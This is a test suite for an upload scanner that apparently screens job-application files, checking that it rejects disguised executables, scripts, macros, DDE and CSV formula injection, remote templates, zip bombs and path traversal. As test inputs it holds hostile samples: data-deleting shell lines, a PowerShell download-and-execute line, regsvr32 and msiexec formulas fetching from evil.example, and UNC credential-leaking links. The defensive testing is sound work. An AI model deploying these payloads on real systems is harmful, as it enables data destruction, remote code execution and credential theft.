import { createHash } from 'node:crypto';
import { deflateRawSync, gzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { buildOle, buildWorkbookStream } from '../../../../test/fixtures/files/build-ole.js';
import { buildPdf } from '../../../../test/fixtures/files/build-pdf.js';
import { buildOoxml, buildZip } from '../../../../test/fixtures/files/build-zip.js';
import { samples } from '../../../../test/fixtures/files/samples.js';
import type { BuiltinLimits } from './builtin-limits.js';
import { createBuiltinScanner } from './builtin-scanner.js';
import { bytesSubject } from './bytes-subject.js';

const scan = async (
  name: string,
  bytes: Uint8Array,
  options: Partial<BuiltinLimits> & { denylist?: string[] } = {},
) => {
  const result = await createBuiltinScanner(options).scan(bytesSubject(name, bytes));
  return { ...result, rules: result.findings.map((f) => f.rule) };
};

describe('built-in engine: allowed files', () => {
  it.each([
    ['cv.pdf', buildPdf(), 'application/pdf'],
    ['photo.png', samples.png, 'image/png'],
    ['photo.jpg', samples.jpeg, 'image/jpeg'],
    ['anim.gif', samples.gif, 'image/gif'],
    ['image.webp', samples.webp, 'image/webp'],
    ['notes.txt', samples.text, 'text/plain'],
    ['table.csv', samples.csv, 'text/csv'],
    ['職務経歴書.txt', samples.shiftJis, 'text/plain'],
    [
      'cv.docx',
      buildOoxml('docx'),
      'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
    ],
    ['sheet.xlsx', buildOoxml('xlsx'), 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet'],
    [
      'deck.pptx',
      buildOoxml('pptx'),
      'application/vnd.openxmlformats-officedocument.presentationml.presentation',
    ],
    ['old.doc', buildOle([{ name: 'WordDocument', data: Buffer.alloc(700, 1) }]), 'application/msword'],
    [
      'old.xls',
      buildOle([{ name: 'Workbook', data: buildWorkbookStream(false) }]),
      'application/vnd.ms-excel',
    ],
    [
      'portfolio.zip',
      buildZip([
        { name: 'cv.pdf', data: buildPdf() },
        { name: '写真/顔.png', data: samples.png },
      ]),
      'application/zip',
    ],
    ['report.csv.gz', gzipSync(samples.csv), 'application/gzip'],
  ])('accepts %s as clean and detects its type from the bytes', async (name, bytes, type) => {
    const r = await scan(name, bytes);
    expect(r.findings).toEqual([]);
    expect(r.kind).toBe('clean');
    expect(r.detectedType).toBe(type);
  });

  it('accepts a file without an extension by its content', async () => {
    expect((await scan('README', samples.text)).kind).toBe('clean');
  });
});

describe('built-in engine: names versus content', () => {
  it.each([
    ['cv.pdf', samples.png, 'name-mismatch'],
    ['cv.pdf', samples.pe, 'executable'],
    ['履歴書.pdf', samples.pe, 'name-mismatch'],
    ['photo.png', buildPdf(), 'name-mismatch'],
    ['cv.docx', buildZip([{ name: 'a.txt', data: 'hello' }]), 'name-mismatch'],
    ['run.bat', Buffer.from('dir\r\n'), 'runnable-name'],
    ['cv.pdf.exe', buildPdf(), 'name-mismatch'],
  ])('rejects %s whose content is something else (%s)', async (name, bytes, rule) => {
    const r = await scan(name, bytes);
    expect(r.kind).toBe('rejected');
    expect(r.rules).toContain(rule);
  });
});

describe('built-in engine: programs and scripts', () => {
  it.each([
    ['setup.exe', samples.pe, 'application/x-msdownload'],
    ['a.out', samples.elf, 'application/x-elf'],
    ['app', samples.machoFat, 'application/x-mach-binary'],
    ['tool', samples.machO64, 'application/x-mach-binary'],
  ])('rejects the executable %s', async (name, bytes, type) => {
    const r = await scan(name, bytes);
    expect(r.kind).toBe('rejected');
    expect(r.rules).toContain('executable');
    expect(r.detectedType).toBe(type);
  });

  it.each([
    ['install.txt', '#!/bin/sh\nrm -rf ~\n'],
    ['notes.txt', '@echo off\r\ndel /q C:\\*\r\n'],
    ['notes.txt', 'powershell -enc SQBFAFgA\n'],
    ['notes.txt', '$c = New-Object Net.WebClient; IEX ($c.DownloadString("http://x"))\n'],
    ['notes.txt', 'Set sh = CreateObject("WScript.Shell")\nsh.Run "calc"\n'],
    ['notes.txt', 'var s = String.fromCharCode(99,97,108,99); eval(s);\n'],
  ])('rejects a script disguised as %s: %j', async (name, content) => {
    const r = await scan(name, Buffer.from(content));
    expect(r.kind).toBe('rejected');
    expect(r.rules).toContain('script');
  });

  it('reads a long text file to its end', async () => {
    const page = Buffer.from('経歴 Curriculum vitae, line of ordinary text.\n'.repeat(4000));
    expect((await scan('notes.txt', page)).kind).toBe('clean');
    const script = await scan('notes.txt', Buffer.concat([page, Buffer.from('powershell -enc SQBFAFgA\n')]));
    expect(script.rules).toContain('script');
    const appended = await scan('notes.txt', Buffer.concat([page, samples.elf]));
    expect(appended.rules).toContain('text-binary-content');
  });

  it.each([
    ['powershell -enc SQBFAFgA\n', 'script'],
    ['Set sh = CreateObject("WScript.Shell")\n', 'script'],
    ['var s = String.fromCharCode(99); eval(s);\n', 'script'],
    ["x,=cmd|' /C calc'!A0\n", 'csv-formula-injection'],
    ['x,=DDE("cmd";"/C calc";"A0")\n', 'csv-formula-injection'],
  ])('finds %j after the first 64 KB of a text file', async (tail, rule) => {
    const page = Buffer.from('a,b\n1,2\n'.repeat(20_000));
    expect((await scan('data.csv', Buffer.concat([page, Buffer.from(tail)]))).rules).toContain(rule);
  });

  it('finds a script whose words a long run of whitespace spreads across two chunks', async () => {
    const line = 'name,role,city\n';
    const filler = line.repeat(Math.ceil((1024 * 1024) / line.length));
    for (const [gap, tail] of [
      [' '.repeat(600), '-enc SQBFAFgA'],
      ['\n'.repeat(300) + '\t'.repeat(5000), '-enc SQBFAFgA'],
    ] as const) {
      // `powershell` just before the first 1 MB boundary, `-enc` after it.
      const head = filler.slice(0, 1024 * 1024 - 11 - gap.length + 100);
      const text = `${head}\npowershell${gap}${tail}\n${line.repeat(10)}`;
      expect((await scan('notes.txt', Buffer.from(text))).rules).toContain('script');
    }
    // Whitespace runs across the seam in a clean file stay clean.
    const spaced = `${filler.slice(0, 1024 * 1024 - 300)}${' '.repeat(5000)}\n${line.repeat(10)}`;
    expect((await scan('notes.txt', Buffer.from(spaced))).kind).toBe('clean');
  });

  it('keeps a character cut between two chunks of a long UTF-8 file', async () => {
    // 1 MB chunks of 3-byte characters: every boundary falls inside a character.
    const japanese = Buffer.from('職務経歴書'.repeat(200_000));
    expect(japanese.length % 3).toBe(0);
    expect((await scan('notes.txt', japanese)).kind).toBe('clean');
  });

  it('accepts text that starts with the letters MZ', async () => {
    expect((await scan('memo.txt', Buffer.from('MZ team notes: meeting at ten.\n'))).kind).toBe('clean');
  });

  it.each([
    ["name,value\nx,=SUM(0,cmd|' /C calc'!A0)\n", 'csv-formula-injection'],
    [
      "name,value\nx,=regsvr32|' /s /u /i:http://evil.example/a.sct scrobj.dll'!A0\n",
      'csv-formula-injection',
    ],
    ["name,value\nx,=msiexec|' /q /i http://evil.example/a.msi'!A0\n", 'csv-formula-injection'],
    ['name,value\nx,"=IF(1,HYPERLINK(""http://evil.example/?""&A1,""CV""))"\n', 'csv-formula-network'],
  ])(
    'rejects a CSV formula that calls a program or the network past its first function: %j',
    async (csv, rule) => {
      expect((await scan('list.csv', Buffer.from(csv))).rules).toEqual([rule]);
    },
  );

  it('refuses a SYLK spreadsheet whatever its name, and the names of files Excel runs as queries', async () => {
    const sylk = 'ID;P\nC;Y1;X1;K0;EEXEC("calc.exe")\nNN;NAuto_open;ER1C1\nE\n';
    expect((await scan('cv.csv', Buffer.from(sylk))).rules).toEqual(['type-not-allowed']);
    expect((await scan('query.iqy', Buffer.from('WEB\n1\nhttp://evil.example/q\n'))).rules).toEqual([
      'runnable-name',
    ]);
    expect((await scan('notes.csv', Buffer.from('IDs;names\n1;Taro\n'))).kind).toBe('clean');
  });

  it('rejects a CSV cell that starts a program through DDE', async () => {
    const r = await scan('list.csv', Buffer.from("name,value\nx,=cmd|' /C calc'!A0\n"));
    expect(r.rules).toContain('csv-formula-injection');
  });
});

describe('built-in engine: markup', () => {
  it.each([
    ['page.html', '<!DOCTYPE html><html><body><script>alert(1)</script></body></html>', 'html-script'],
    ['page.html', '<html><body><img src=x onerror="alert(1)"></body></html>', 'html-script'],
    ['logo.svg', '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', 'svg-script'],
    ['logo.svg', '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"></svg>', 'svg-script'],
    [
      'logo.svg',
      '<svg xmlns="http://www.w3.org/2000/svg"><rect width="1" height="1"/></svg>',
      'type-not-allowed',
    ],
    ['page.html', '<html><body><p>hello</p></body></html>', 'type-not-allowed'],
  ])('rejects %s (%s)', async (name, content, rule) => {
    const r = await scan(name, Buffer.from(content));
    expect(r.kind).toBe('rejected');
    expect(r.rules).toContain(rule);
  });
});

describe('built-in engine: PDF active content (more in pdf-inspector.test.ts)', () => {
  it('rejects JavaScript hidden inside a compressed object stream', async () => {
    const r = await scan('cv.pdf', buildPdf({ objStm: '<< /S /JavaScript /JS (app.alert(1)) >>' }));
    expect(r.rules).toContain('pdf-javascript');
  });

  it('accepts an OpenAction that only goes to a page', async () => {
    expect((await scan('cv.pdf', buildPdf({ catalogExtra: '/OpenAction [3 0 R /Fit]' }))).kind).toBe('clean');
  });
});

describe('built-in engine: Office macros', () => {
  it.each(['docx', 'xlsx', 'pptx'] as const)('rejects a %s with a VBA project', async (kind) => {
    const r = await scan(`file.${kind}`, buildOoxml(kind, { macros: true }));
    expect(r.kind).toBe('rejected');
    expect(r.rules).toContain('office-macros');
  });

  it.each(['"', "'"])(
    'rejects a document with a remote template, its attributes quoted with %s',
    async (q) => {
      const rels = `<Relationships><Relationship Id=${q}rId9${q} Type=${q}http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate${q} Target=${q}http://evil.example/t.dotm${q} TargetMode=${q}External${q}/></Relationships>`;
      const r = await scan(
        'cv.docx',
        buildOoxml('docx', { extra: [{ name: 'word/_rels/settings.xml.rels', data: rels }] }),
      );
      expect(r.rules).toContain('office-external-content');
    },
  );

  const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
  const rels = (relationship: string) =>
    `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${relationship}</Relationships>`;
  const withPart = (name: string, data: string | Uint8Array) =>
    buildOoxml('docx', { extra: [{ name, data }] });

  it.each([
    [
      'a remote template whose TargetMode is a character reference',
      'cv.docx',
      withPart(
        'word/_rels/settings.xml.rels',
        rels(
          `<Relationship Id="r" Type="${REL}/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="&#69;xternal"/>`,
        ),
      ),
    ],
    [
      'a remote template after a > inside an attribute value',
      'cv.docx',
      withPart(
        'word/_rels/settings.xml.rels',
        rels(
          `<Relationship Id="r" Type="${REL}/attachedTemplate" Target="http://evil.example/?a>b" TargetMode="External"/>`,
        ),
      ),
    ],
    [
      'relationships written in UTF-16',
      'cv.docx',
      withPart(
        'word/_rels/settings.xml.rels',
        Buffer.concat([
          Buffer.from([0xff, 0xfe]),
          Buffer.from(
            rels(
              `<Relationship Id="r" Type="${REL}/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>`,
            ),
            'utf16le',
          ),
        ]),
      ),
    ],
    [
      "a picture linked from another computer (a UNC path leaks the reader's credentials)",
      'cv.docx',
      withPart(
        'word/_rels/document.xml.rels',
        rels(
          `<Relationship Id="r" Type="${REL}/image" Target="\\\\evil.example\\share\\a.png" TargetMode="External"/>`,
        ),
      ),
    ],
    [
      'a DDEAUTO field cut across runs',
      'cv.docx',
      buildOoxml('docx', {
        replace: {
          'word/document.xml':
            '<w:document xmlns:w="w"><w:body><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p></w:body></w:document>',
        },
      }),
    ],
    [
      'a simple DDE field in a footer',
      'cv.docx',
      withPart(
        'word/footer1.xml',
        '<w:ftr xmlns:w="w"><w:fldSimple w:instr=" DDE cmd &quot;/c calc&quot; "/></w:ftr>',
      ),
    ],
    [
      'an INCLUDEPICTURE from another computer',
      'cv.docx',
      withPart(
        'word/header1.xml',
        '<w:hdr xmlns:w="w"><w:r><w:instrText>INCLUDEPICTURE "\\\\\\\\evil.example\\\\s\\\\a.png" \\d</w:instrText></w:r></w:hdr>',
      ),
    ],
    [
      'an Excel DDE link',
      'cv.xlsx',
      buildOoxml('xlsx', {
        extra: [
          {
            name: 'xl/externalLinks/externalLink1.xml',
            data: '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
          },
        ],
      }),
    ],
    [
      'an Excel web query',
      'cv.xlsx',
      buildOoxml('xlsx', {
        extra: [
          {
            name: 'xl/connections.xml',
            data: '<connections><connection id="1" refreshOnLoad="1"><webPr url="http://evil.example/q"/></connection></connections>',
          },
        ],
      }),
    ],
  ])('rejects a document with %s', async (_, name, file) => {
    expect((await scan(name, file)).rules).toEqual(['office-external-content']);
  });

  it('accepts a picture linked from beside the document, and a field that mentions DDE only in text', async () => {
    const local = withPart(
      'word/_rels/document.xml.rels',
      rels(`<Relationship Id="r" Type="${REL}/image" Target="tiny-picture.png" TargetMode="External"/>`),
    );
    expect((await scan('cv.docx', local)).kind).toBe('clean');
    const text = buildOoxml('docx', {
      replace: {
        'word/document.xml':
          '<w:document xmlns:w="w"><w:body><w:p><w:r><w:t>DDEAUTO and DDE protocols, INCLUDEPICTURE \\\\host</w:t></w:r></w:p></w:body></w:document>',
      },
    });
    expect((await scan('cv.docx', text)).kind).toBe('clean');
  });

  it('rejects Excel 4.0 macro sheets in a workbook, and macro content types written in UTF-16', async () => {
    const sheet = buildOoxml('xlsx', {
      extra: [{ name: 'xl/macrosheets/sheet1.xml', data: '<xm:macrosheet/>' }],
    });
    expect((await scan('cv.xlsx', sheet)).rules).toEqual(['office-macros']);
    const types = `<?xml version="1.0" encoding="UTF-16"?><Types><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macro&#69;nabled.main+xml"/></Types>`;
    const utf16 = buildOoxml('docx', {
      replace: {
        '[Content_Types].xml': Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(types, 'utf16le')]),
      },
    });
    expect((await scan('cv.docx', utf16)).rules).toEqual(['office-macros']);
  });

  it('rejects an executable embedded in a document', async () => {
    const r = await scan(
      'cv.docx',
      buildOoxml('docx', { extra: [{ name: 'word/embeddings/x.bin', data: samples.pe }] }),
    );
    expect(r.rules).toContain('executable');
  });

  it.each([
    ['Macros', 'storage'],
    ['_VBA_PROJECT_CUR', 'storage'],
    ['VBA', 'storage'],
  ])('rejects a legacy .doc with a %s %s', async (name) => {
    const ole = buildOle([
      { name: 'WordDocument', data: Buffer.alloc(700, 1) },
      { name, storage: true },
      { name: '_VBA_PROJECT', data: Buffer.alloc(600, 2) },
    ]);
    expect((await scan('old.doc', ole)).rules).toContain('office-macros');
  });

  it('rejects a Word 97 document with a DDEAUTO field, in 8-bit or UTF-16 text', async () => {
    const field = '\u0013 DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc" \u0014x\u0015';
    for (const encoding of ['latin1', 'utf16le'] as const) {
      const text = Buffer.concat([
        Buffer.alloc(1024),
        Buffer.from(`Curriculum vitae ${field} end`, encoding),
      ]);
      const doc = buildOle([{ name: 'WordDocument', data: text }]);
      expect((await scan('old.doc', doc)).rules).toEqual(['office-external-content']);
    }
    // The word in the text, outside a field, is no field.
    const plain = Buffer.concat([Buffer.alloc(1024), Buffer.from('DDEAUTO and DDE experience', 'utf16le')]);
    expect((await scan('old.doc', buildOle([{ name: 'WordDocument', data: plain }]))).kind).toBe('clean');
  });

  it('judges an object embedded in a Word 97 document (its Package stream) for what it carries', async () => {
    const doc = (embedded: Buffer) =>
      buildOle([
        { name: 'WordDocument', data: Buffer.alloc(1024, 0x41) },
        { name: 'Package', data: embedded },
      ]);
    expect((await scan('old.doc', doc(buildOoxml('xlsx', { macros: true })))).rules).toEqual([
      'office-macros',
    ]);
    expect((await scan('old.doc', doc(buildOoxml('xlsx')))).kind).toBe('clean');
  });

  it('rejects a legacy .xls with an Excel 4.0 macro sheet', async () => {
    const ole = buildOle([{ name: 'Workbook', data: buildWorkbookStream(true) }]);
    expect((await scan('old.xls', ole)).rules).toContain('office-macros');
  });

  it('looks for Excel 4.0 macro sheets in every workbook stream: Excel 95 Book, and past a decoy', async () => {
    const book = buildOle([{ name: 'Book', data: buildWorkbookStream(true) }]);
    expect((await scan('old.xls', book)).rules).toEqual(['office-macros']);
    const decoy = buildOle([
      { name: 'Workbook', data: buildWorkbookStream(false) },
      { name: 'Workbook', data: buildWorkbookStream(true) },
    ]);
    expect((await scan('old.xls', decoy)).rules).toEqual(['office-macros']);
  });

  it('reads a Workbook stream from regular sectors as well as from the mini stream', async () => {
    const large = Buffer.concat([buildWorkbookStream(true), Buffer.alloc(5000)]);
    expect((await scan('old.xls', buildOle([{ name: 'Workbook', data: large }]))).rules).toContain(
      'office-macros',
    );
  });

  it('ignores a forged mini-stream cutoff, as Office does', async () => {
    const ole = buildOle([{ name: 'Workbook', data: buildWorkbookStream(true) }]);
    ole.writeUInt32LE(0, 0x38);
    expect((await scan('old.xls', ole)).rules).toContain('office-macros');
  });

  it('rejects a .doc that carries an embedded package', async () => {
    const ole = buildOle([
      { name: 'WordDocument', data: Buffer.alloc(700, 1) },
      { name: '\u0001Ole10Native', data: samples.pe },
    ]);
    expect((await scan('old.doc', ole)).rules).toContain('office-embedded-package');
  });

  it('rejects legacy PowerPoint files, whose macros cannot be inspected', async () => {
    const ppt = buildOle([{ name: 'PowerPoint Document', data: Buffer.alloc(700, 1) }]);
    const r = await scan('deck.ppt', ppt);
    expect(r.kind).toBe('rejected');
    expect(r.detectedType).toBe('application/vnd.ms-powerpoint');
    expect(r.findings[0]?.detail).toContain('.ppt');
  });

  it('refuses a password-protected .xlsx as encrypted, without calling its name a disguise', async () => {
    // An encrypted OOXML file is a compound file holding the encrypted package (as Excel and
    // xlsx-populate write it): its .xlsx name tells the truth.
    const ole = buildOle([
      { name: 'EncryptionInfo', data: Buffer.alloc(700, 4) },
      { name: 'EncryptedPackage', data: Buffer.alloc(5000, 7) },
    ]);
    const r = await scan('budget.xlsx', ole);
    expect(r.rules).toEqual(['office-encrypted']);
  });

  it('rejects other compound files such as installers', async () => {
    const ole = buildOle([{ name: 'SummaryInformation', data: Buffer.alloc(600) }]);
    const r = await scan('setup.msi', ole);
    expect(r.rules).toContain('type-not-allowed');
  });

  it('refuses a .doc whose directory is shifted by one byte when it carries a macro storage', async () => {
    const ole = buildOle([
      { name: 'WordDocument', data: Buffer.alloc(700, 1) },
      { name: 'Macros', storage: true },
      { name: '_VBA_PROJECT', data: Buffer.alloc(600, 2) },
    ]);
    // The directory starts at the sector the header names; one byte inserted before it shifts
    // every entry, so a strict parse reads no names at all. Office may still repair the file.
    const dir = (ole.readUInt32LE(0x30) + 1) * 512;
    const shifted = Buffer.concat([ole.subarray(0, dir), Buffer.from([0]), ole.subarray(dir)]);
    const r = await scan('old.doc', shifted);
    expect(r.kind).toBe('rejected');
    expect(r.rules).toEqual(['office-damaged-macros']);
    expect(r.findings[0]?.detail).toMatch(/damaged.*macro storage/);
  });

  it('refuses a .doc whose macro storage entry is shifted inside the directory', async () => {
    const ole = buildOle([
      { name: 'WordDocument', data: Buffer.alloc(700, 1) },
      { name: 'Macros', storage: true },
    ]);
    // One byte inserted in the WordDocument entry: the root and WordDocument still read, and
    // every later entry (Macros) sits one byte off the 128-byte grid.
    const at = (ole.readUInt32LE(0x30) + 1) * 512 + 128 + 0x50;
    const shifted = Buffer.concat([ole.subarray(0, at), Buffer.from([0]), ole.subarray(at)]);
    expect((await scan('old.doc', shifted)).rules).toEqual(['office-damaged-macros']);
  });

  it('refuses a .doc whose directory is damaged, without claiming macros it does not carry', async () => {
    const ole = buildOle([{ name: 'WordDocument', data: Buffer.alloc(700, 1) }]);
    const dir = (ole.readUInt32LE(0x30) + 1) * 512;
    const shifted = Buffer.concat([ole.subarray(0, dir), Buffer.from([0]), ole.subarray(dir)]);
    const r = await scan('old.doc', shifted);
    expect(r.rules).toEqual(['office-corrupt']);
  });

  it('rejects a damaged compound file instead of guessing', async () => {
    const ole = buildOle([{ name: 'WordDocument', data: Buffer.alloc(700, 1) }]);
    ole.writeUInt16LE(3, 0x1e);
    expect((await scan('old.doc', ole)).rules).toContain('office-corrupt');
  });
});

describe('built-in engine: archives', () => {
  it('rejects a zip bomb from its declared ratio without inflating it', async () => {
    const zip = buildZip([{ name: 'zeros.txt', data: Buffer.alloc(50 * 1024 * 1024) }]);
    expect(zip.length).toBeLessThan(100 * 1024);
    const r = await scan('cv.zip', zip);
    expect(r.rules).toContain('zip-bomb-ratio');
  });

  it('rejects an archive that expands beyond the total size limit', async () => {
    const r = await scan('cv.zip', buildZip([{ name: 'a.txt', data: Buffer.alloc(3000, 'a') }]), {
      maxExpandedBytes: 2000,
    });
    expect(r.rules).toContain('zip-bomb-size');
  });

  it('stops inflating an entry whose central directory lies about its size', async () => {
    const zip = buildZip([
      { name: 'small.txt', data: Buffer.alloc(5 * 1024 * 1024, 'a'), declaredSize: 1000 },
    ]);
    const r = await scan('cv.zip', zip);
    expect(r.kind).toBe('rejected');
    expect(r.rules).toContain('zip-size-mismatch');
  });

  it('rejects archives nested deeper than the limit', async () => {
    let inner: Buffer = buildZip([{ name: 'cv.txt', data: 'hello' }]);
    for (let i = 0; i < 3; i++) inner = buildZip([{ name: `level${i}.zip`, data: inner }]);
    expect((await scan('deep.zip', inner)).rules).toContain('archive-too-deep');
    expect((await scan('deep.zip', inner, { maxDepth: 4 })).kind).toBe('clean');
  });

  it('rejects too many entries', async () => {
    const zip = buildZip(Array.from({ length: 12 }, (_, i) => ({ name: `f${i}.txt`, data: 'x' })));
    expect((await scan('many.zip', zip, { maxEntries: 10 })).rules).toContain('zip-too-many-entries');
  });

  it.each([
    ['../../.bashrc', 'zip-path-traversal'],
    ['/etc/cron.d/x', 'zip-path-traversal'],
    ['C:/Windows/x.txt', 'zip-path-traversal'],
    ['cv\u202Efdp.txt', 'zip-disguised-name'],
  ])('rejects the entry name %j (%s)', async (name, rule) => {
    expect((await scan('a.zip', buildZip([{ name, data: 'hello' }]))).rules).toContain(rule);
  });

  it('rejects a symbolic link entry', async () => {
    expect(
      (await scan('a.zip', buildZip([{ name: 'link.txt', data: '/etc/passwd', symlink: true }]))).rules,
    ).toContain('zip-symlink');
  });

  it('rejects encrypted entries as unscannable', async () => {
    const r = await scan('secret.zip', buildZip([{ name: 'cv.pdf', data: buildPdf(), encrypted: true }]));
    expect(r.rules).toContain('zip-encrypted');
  });

  it('finds EICAR inside a zip inside a zip', async () => {
    const zip = buildZip([
      { name: 'inner.zip', data: buildZip([{ name: 'eicar.com', data: samples.eicar }]) },
    ]);
    const r = await scan('cv.zip', zip);
    expect(r.kind).toBe('infected');
    expect(r.findings[0]?.detail).toContain('inner.zip: eicar.com');
  });

  it('rejects an archive with a program among allowed files', async () => {
    const r = await scan(
      'cv.zip',
      buildZip([
        { name: 'cv.pdf', data: buildPdf() },
        { name: 'cv.pdf.exe', data: samples.pe },
      ]),
    );
    expect(r.rules).toContain('executable');
  });

  it('keeps Japanese entry names, in UTF-8 or Shift_JIS', async () => {
    const sjisName = Buffer.from([0x97, 0x9a, 0x97, 0xf0, 0x8f, 0x91, 0x2e, 0x65, 0x78, 0x65]); // 履歴書.exe
    const r = await scan('応募書類.zip', buildZip([{ name: 'x', rawName: sjisName, data: samples.pe }]));
    expect(r.findings[0]?.detail).toContain('履歴書.exe');
  });

  it('rejects a gzip bomb while it streams', async () => {
    const r = await scan('big.txt.gz', gzipSync(Buffer.alloc(20 * 1024 * 1024)), {
      maxExpandedBytes: 10 * 1024 * 1024,
      maxRatio: 1e9,
    });
    expect(r.rules).toContain('gzip-bomb-size');
    const ratio = await scan('big.txt.gz', gzipSync(Buffer.alloc(20 * 1024 * 1024)));
    expect(ratio.rules).toContain('gzip-bomb-ratio');
  });

  it('judges the file name a gzip header stores, under which 7-Zip and gunzip -N extract', async () => {
    // gzipSync writes no name: flag FNAME (0x08) and the name go in after the 10-byte header.
    const named = (name: string, data: Buffer) => {
      const plain = gzipSync(data);
      const header = Buffer.from(plain.subarray(0, 10));
      header[3] = 0x08;
      return Buffer.concat([header, Buffer.from(`${name}\u0000`, 'latin1'), plain.subarray(10)]);
    };
    const script = Buffer.from('alert(document.cookie)\n');
    expect((await scan('cv.txt.gz', named('cv.js', script))).findings.map((f) => f.detail)).toEqual([
      'The name stored inside the gzip file, cv.js: The name ends in .js, which runs as a program when it is opened.',
    ]);
    expect((await scan('notes.txt.gz', named('notes.txt', Buffer.from('Curriculum vitae\n')))).kind).toBe(
      'clean',
    );
    expect((await scan('notes.txt.gz', named('dir/notes.txt', Buffer.from('Curriculum vitae\n')))).kind).toBe(
      'clean',
    );
  });

  it('rejects what a gzip holds when it is not allowed', async () => {
    expect((await scan('tool.gz', gzipSync(samples.elf))).rules).toContain('executable');
  });

  it('rejects a damaged entry whose checksum does not match', async () => {
    const zip = buildZip([{ name: 'a.txt', data: 'hello world', method: 0 }]);
    zip.write('jello', zip.indexOf('hello'), 'latin1');
    expect((await scan('a.zip', zip)).rules).toContain('zip-corrupt');
  });

  it('rejects other archive formats it cannot inspect', async () => {
    const rar = Buffer.concat([Buffer.from('Rar!\x1a\x07\x00', 'latin1'), Buffer.alloc(32)]);
    expect((await scan('cv.rar', rar)).rules).toContain('type-not-allowed');
  });

  it('rejects a deflated entry that is not valid deflate data', async () => {
    const zip = buildZip([{ name: 'a.txt', data: 'hello world hello world' }]);
    const raw = deflateRawSync(Buffer.from('hello world hello world'));
    zip.fill(0xff, 30 + 5, 30 + 5 + raw.length);
    expect((await scan('a.zip', zip)).rules).toContain('zip-corrupt');
  });
});

describe('built-in engine: malware markers', () => {
  it('reports the EICAR test file as infected', async () => {
    const r = await scan('eicar.txt', samples.eicar);
    expect(r.kind).toBe('infected');
    expect(r.rules).toEqual(['eicar']);
  });

  it('reports EICAR followed by whitespace, as EICAR allows', async () => {
    expect((await scan('eicar.com', Buffer.concat([samples.eicar, Buffer.from('  \r\n')]))).kind).toBe(
      'infected',
    );
  });

  it('reports a file whose sha256 is on the denylist as infected', async () => {
    const sha = createHash('sha256').update(samples.text).digest('hex').toUpperCase();
    const r = await scan('notes.txt', samples.text, { denylist: [sha] });
    expect(r.kind).toBe('infected');
    expect(r.rules).toEqual(['sha256-denylist']);
  });

  it('applies the denylist to the entries of an archive', async () => {
    const sha = createHash('sha256').update(samples.csv).digest('hex');
    const r = await scan('bundle.zip', buildZip([{ name: 'inner/table.csv', data: samples.csv }]), {
      denylist: [sha],
    });
    expect(r.kind).toBe('infected');
    expect(r.findings[0]?.detail).toContain('inner/table.csv');
  });

  it('rejects an empty upload', async () => {
    expect((await scan('empty.pdf', new Uint8Array())).kind).toBe('rejected');
  });
});
